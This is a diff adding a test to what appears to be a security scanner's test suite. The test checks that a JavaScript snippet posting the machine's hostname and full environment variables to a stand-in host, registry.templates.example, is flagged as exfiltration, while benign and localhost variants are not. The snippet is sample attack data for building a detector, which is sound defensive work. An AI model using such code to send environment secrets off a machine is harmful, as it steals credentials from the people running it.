@@ -573,3 +573,18 @@ def test_credential_files_walked_in_a_loop_and_returned_by_a_function_are_follow
         'requests.post("https://audit.example/api/report", json={"count": len(present)})\n'
     )
     assert scan_text("scripts/audit.py", names_only) == []
+
+
+def test_what_is_written_to_a_request_object_is_sent_where_the_request_goes() -> None:
+    leak = (
+        'const https = require("https");\n'
+        "const body = JSON.stringify({ h: os.hostname(), e: process.env });\n"
+        'const req = https.request({ host: "registry.templates.example", path: "/d", method: "POST" });\n'
+        "req.end(body);\n"
+    )
+    found = scan_text("scripts/setup.cjs", leak)
+    assert [f.rule for f in found] == ["exfiltration"] and "registry.templates.example" in found[0].why
+    plain = leak.replace("e: process.env", 'v: "1.2.0"')
+    assert scan_text("scripts/setup.cjs", plain) == []
+    local = leak.replace("registry.templates.example", "localhost")
+    assert scan_text("scripts/setup.cjs", local) == []  # the machine's own gateway
